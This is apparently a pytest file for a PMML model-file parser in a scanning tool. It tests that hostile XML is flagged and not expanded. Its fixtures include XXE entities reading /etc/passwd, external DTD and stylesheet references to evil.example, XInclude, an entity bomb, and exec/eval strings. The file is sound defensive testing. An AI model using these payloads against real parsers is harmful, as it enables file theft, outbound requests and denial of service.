"""PMML: what is declared before the root, taken in and called, in any encoding; nothing is looked up or expanded."""

import pytest

from fixtures import mutants
from fixtures.pmmls import BOMB, pmml
from modelaudit.engine.facts import Defect, Limit, Metadata, Reference, Text
from modelaudit.parsers.base import Context, Input, Property
from modelaudit.parsers.pmml import parse, recognise_pmml
from modelaudit.parsers.reader import BytesReader
from modelaudit.parsers.registry import Registry
from modelaudit.pipeline.scan import scan

ENCODINGS = [
    ("UTF-8", "utf-8"),
    ("UTF-8", "utf-8-sig"),
    ("UTF-16", "utf-16"),
    ("UTF-16LE", "utf-16-le"),
    ("UTF-16BE", "utf-16-be"),
    ("UTF-32", "utf-32"),
    ("ISO-8859-1", "latin-1"),
    ("windows-1252", "cp1252"),
    ("Shift_JIS", "shift_jis"),
    ("IBM037", "cp037"),
]
ENTITY = '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@pytest.fixture
def found(ruleset, tmp_path):
    def run(data: bytes):
        path = tmp_path / "model.pmml"
        path.write_bytes(data)
        document = scan([str(path)], ruleset)
        return {(f.rule, f.severity) for f in document.findings if f.active}, document.decision.exit_code

    return run


def read(data):
    return list(parse(Input("m.pmml", BytesReader(data), "pmml"), Context()))


def of(kind, items):
    return [item for item in items if isinstance(item, kind)]


@pytest.mark.parametrize(("name", "codec"), ENCODINGS)
def test_every_encoding_is_recognised_and_read(name, codec):
    data = pmml(ENTITY, encoding=name, codec=codec)
    assert recognise_pmml(data[:4096], BytesReader(data))
    assert Registry.load().recognise(data[:4096], BytesReader(data), ".bin").formats == ("pmml",)
    items = read(data)
    assert [item.target for item in of(Reference, items) if item.kind == "xml-entity"] == ["file:///etc/passwd"]
    assert [item.code for item in of(Defect, items)] == ["xml-doctype"]
    assert {(item.name, item.value) for item in of(Property, items)} >= {
        ("version", "4.4"),
        ("producer", "SkLearn2PMML"),
    }


def test_other_xml_is_none():
    for data in (b"<html><body>PMML</body></html>", b"PMML", b'<?xml version="1.0"?><net name="x"/>'):
        assert not recognise_pmml(data, BytesReader(data))


def test_an_ordinary_document_raises_nothing(found):
    assert found(pmml()) == (set(), 0)


@pytest.mark.parametrize(
    ("before", "inside", "rule"),
    [
        ("<!DOCTYPE PMML>", "", ("MA4700", "warning")),
        (ENTITY, "", ("MA4701", "critical")),
        ('<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">', "", ("MA4701", "critical")),
        ('<!DOCTYPE PMML [<!ENTITY % p "x">]>', "", ("MA4702", "critical")),
        ('<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://evil.example/x">]>', "", ("MA4701", "critical")),
        (BOMB, "", ("MA4703", "critical")),
        ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', ("MA4704", "warning")),
        ('<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>', "", ("MA4704", "warning")),
        (
            "",
            '<A xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="//host/x.xsd"/>',
            ("MA4705", "warning"),
        ),
        ("", '<Apply function="com.acme.Score"/>', ("MA4706", "warning")),
        ("", "<script>1</script>", ("MA4707", "warning")),
        ("", "<Extension><![CDATA[Runtime.getRuntime().exec('x')]]></Extension>", ("MA4708", "warning")),
        ("", '<Extension value="eval(x)"/>', ("MA4708", "warning")),
        ("", "<open>", ("MA4710", "warning")),
    ],
)
def test_each_attack_has_its_rule(found, before, inside, rule):
    findings, code = found(pmml(before, inside))
    assert rule in findings
    assert code == 1


def test_entities_in_text_are_not_expanded():
    items = read(pmml("<!DOCTYPE PMML [<!ENTITY a 'eval(1)'>]>", "<Extension>&a;</Extension>"))
    assert "eval(1)" not in [item.value for item in of(Text, items) if item.owner == "Extension"]
    assert [item.value for item in of(Metadata, items) if item.key == "entity"] == ["eval(1)"]


def test_an_entity_that_grows_ends_the_reading():
    items = read(pmml(BOMB, '<Extension value="&a9;"/>'))
    assert [item.code for item in of(Defect, items)] == ["xml-doctype", "xml-entity-bomb"]


def test_deep_documents_are_limits():
    assert of(Limit, read(pmml("", "<a>" * 5000)))[0].what == "depth"


def test_bytes_that_are_not_of_the_encoding_are_told():
    assert [item.code for item in of(Defect, read(pmml().replace(b"acme", b"\xff\xfe\xfa")))] == ["xml-encoding"]


@pytest.mark.parametrize("name", ["UTF-8", "UTF-16", "IBM037"])
def test_mutated_documents_never_raise(name):
    data = pmml(ENTITY, encoding=name, codec="cp037" if name == "IBM037" else None)
    for seed in range(200):
        changed = mutants.mutant(data, seed)
        read(changed)
        recognise_pmml(changed[:4096], BytesReader(changed))
